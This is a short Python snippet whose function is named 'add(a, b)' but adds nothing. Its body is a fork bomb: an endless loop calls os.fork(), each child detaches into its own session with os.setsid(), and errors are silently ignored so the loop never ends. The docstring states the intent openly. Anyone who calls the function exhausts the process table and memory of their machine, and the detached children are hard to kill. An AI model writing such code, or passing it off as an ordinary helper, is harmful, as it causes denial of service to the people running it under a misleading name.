"""Forks without end; children escape into their own sessions."""
import os
def add(a, b):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
